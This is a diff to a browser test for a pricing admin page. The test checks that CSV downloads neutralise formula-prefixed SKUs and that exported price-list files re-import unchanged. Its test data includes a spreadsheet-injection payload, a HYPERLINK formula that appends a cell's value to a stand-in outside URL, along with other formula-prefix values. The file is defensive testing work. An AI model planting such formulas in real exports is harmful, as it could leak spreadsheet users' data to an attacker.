@@ -439,7 +439,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(outline).not.toBe('none');
   });
 
-  it('downloads files a spreadsheet does not run: formula SKUs come out neutralised, and the customer’s file imports back unchanged', async () => {
+  it('downloads files a spreadsheet does not run: formula SKUs come out neutralised, and the customer’s and the list’s files import back unchanged', async () => {
     const skus = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", '@x', '-1', '+SUM(1)'];
     const post = async (path: string, body: unknown) => {
       const response = await server.request('POST', path, { token: tenant.token, body });
@@ -466,7 +466,14 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const entries = form(page, 'Download a price list’s entries');
     await entries.getByLabel('Price list').selectOption({ label: 'Formula list' });
     const [listDownload] = await Promise.all([page.waitForEvent('download'), entries.getByRole('button', { name: 'Download list entries' }).click()]);
-    expect(fs.readFileSync(await listDownload.path(), 'utf8')).toBe(['sku,price,min_quantity,valid_from,valid_until', ...cells.map((cell, index) => `${cell},${index + 0.5},1,,`), ''].join('\n'));
+    const listCsv = fs.readFileSync(await listDownload.path(), 'utf8');
+    expect(listCsv).toBe(
+      ['sku,price,min_quantity,valid_from,valid_until,quantity_minimum,quantity_maximum,quantity_increment', ...cells.map((cell, index) => `${cell},${index + 0.5},1,,,,,`), ''].join('\n'),
+    );
+    // The list's file, sent back to the list as it is: every entry unchanged.
+    const listBack = await server.request('POST', `/v1/price-lists/${list.id}/prices/import?scope=list`, { token: tenant.token, rawBody: listCsv, headers: { 'content-type': 'text/csv' } });
+    expect(listBack.status, listBack.text).toBe(200);
+    expect(listBack.body).toMatchObject({ created: [], deleted: [], unchanged: skus.length });
 
     // The downloaded file, imported back as it is: every price unchanged.
     const upload = form(page, 'Import a CSV file');
